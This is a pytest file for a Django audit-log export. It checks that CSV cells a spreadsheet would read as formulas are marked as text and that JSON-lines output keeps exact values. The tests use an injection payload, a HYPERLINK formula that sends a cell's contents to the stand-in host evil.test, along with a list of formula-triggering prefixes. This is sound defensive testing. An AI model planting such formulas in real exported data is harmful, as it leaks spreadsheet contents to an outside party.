"""The grants exports: a CSV safe to open in a spreadsheet, JSON lines exact (issue 19).

Client apps and their end users write most of a grant's text; a value a spreadsheet reads
as a formula (``=HYPERLINK(...)``) must arrive in the CSV as text, in every column.
"""

import csv
import io
import json

import pytest
from django.db import connection
from django.urls import reverse

from apps.audit.exports import EXPORT_FIELDS, HEADER, spreadsheet_safe
from apps.audit.models import TokenGrant
from apps.clients.models import ClientApp
from apps.tenants.models import Role
from tests.factories import TokenGrantFactory, UserFactory

pytestmark = pytest.mark.django_db

PAYLOAD = 'HYPERLINK("https://evil.test/?"&A1,"x")'
PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\n", " =", "  @", "\t=", "\uff1d", "\x00"]

# The text columns a client app, its end user or an org admin writes, and the model field
# each is read from (the rest of the export is ids, times, numbers and fixed choices).
CLIENT_TEXT = {
    "detail": "detail",
    "client_key_prefix": "client_key_prefix",
    "end_user": "end_user",
    "profile_slug": "profile_slug",
    "error_code": "error_code",
    "request_id": "request_id",
    "user_agent": "user_agent",
    "token_fingerprint": "token_fingerprint",
}


def _fit(model, field: str, text: str) -> str:
    max_length = model._meta.get_field(field).max_length
    return text[:max_length] if max_length else text


def _hostile_grant(alpha, prefix: str) -> TokenGrant:
    value = prefix + PAYLOAD
    app = ClientApp.objects.create(
        organization=alpha.organization, name=_fit(ClientApp, "name", value)
    )
    member = UserFactory(username=f"m{abs(hash(prefix))}", email=prefix + "x@evil.test")
    return TokenGrantFactory(
        organization=alpha.organization,
        client_app=app,
        member=member,
        requested=value,  # a JSON string, not the usual object
        request_body=[value],
        **{field: _fit(TokenGrant, field, value) for field in CLIENT_TEXT.values()},
    )


def _export(client, fmt: str) -> str:
    response = client.get(reverse(f"admin:audit_tokengrant_export_{fmt}"))
    assert response.status_code == 200, response
    return b"".join(response.streaming_content).decode()


@pytest.fixture
def auditor(client, two_orgs):
    client.force_login(two_orgs[0].users[Role.AUDITOR])
    return client


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_no_csv_cell_starts_a_formula(auditor, two_orgs, prefix):
    if prefix == "\x00" and connection.vendor == "postgresql":
        pytest.skip("PostgreSQL cannot store a NUL in text, so no grant can carry one")
    grant = _hostile_grant(two_orgs[0], prefix)

    rows = list(csv.DictReader(io.StringIO(_export(auditor, "csv"), newline="")))

    row = next(row for row in rows if row["public_id"] == str(grant.public_id))
    expected = {
        **{column: getattr(grant, field) for column, field in CLIENT_TEXT.items()},
        "client_app_name": grant.client_app.name,
        "member_email": grant.member.email,
        "requested": grant.requested,
    }
    for column, value in expected.items():
        assert row[column] == "'" + value, column  # the value, marked as text
    for cells in rows:
        for column, cell in cells.items():
            assert not cell.startswith(tuple("=+-@\t\r\n\x00")), (column, cell)
            assert not cell.lstrip().startswith(tuple("=+-@\uff1d")), (column, cell)


def test_csv_numbers_and_plain_text_are_left_alone(auditor, two_orgs):
    alpha, _ = two_orgs
    grant = TokenGrantFactory(
        organization=alpha.organization, end_user="alice", uses=3, upstream_latency_ms=120
    )

    rows = list(csv.DictReader(io.StringIO(_export(auditor, "csv"), newline="")))

    row = next(row for row in rows if row["public_id"] == str(grant.public_id))
    assert (row["end_user"], row["uses"], row["upstream_latency_ms"]) == ("alice", "3", "120")
    assert row["requested_at"] == grant.requested_at.isoformat()
    assert row["request_body"] == '{"uses":1}'


def test_every_csv_cell_is_quoted(auditor, two_orgs):
    """A spreadsheet splitting on ";" must not turn "a;=cmd" into a cell of its own."""
    alpha, _ = two_orgs
    TokenGrantFactory(organization=alpha.organization, end_user="a;=1+1")

    lines = _export(auditor, "csv").splitlines()

    assert lines[0] == ",".join(f'"{name}"' for name in HEADER)
    assert all(line.startswith('"') and line.endswith('"') for line in lines)
    assert '"a;=1+1"' in lines[1]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        ("", ""),
        ("plain", "plain"),
        ("'=already marked", "'=already marked"),
        ("a=b", "a=b"),
        ("-", "'-"),
        ("\u3000=1", "'\u3000=1"),  # an ideographic space, trimmed by a spreadsheet
        (7, "7"),
        ({"a": "=1"}, '{"a":"=1"}'),
    ],
)
def test_spreadsheet_safe_marks_only_what_would_be_a_formula(value, cell):
    assert spreadsheet_safe(value) == cell


def test_json_lines_keep_the_exact_values(auditor, two_orgs):
    prefix = "\t=" if connection.vendor == "postgresql" else "\x00="
    grant = _hostile_grant(two_orgs[0], prefix)

    records = [json.loads(line) for line in _export(auditor, "jsonl").splitlines()]

    record = next(r for r in records if r["public_id"] == str(grant.public_id))
    for column, field in CLIENT_TEXT.items():
        assert record[column] == getattr(grant, field), column
    assert record["client_app_name"] == grant.client_app.name
    assert record["member_email"] == grant.member.email
    assert record["requested"] == grant.requested
    assert record["request_body"] == grant.request_body
    assert set(record) == {field.replace("__", "_") for field in EXPORT_FIELDS}
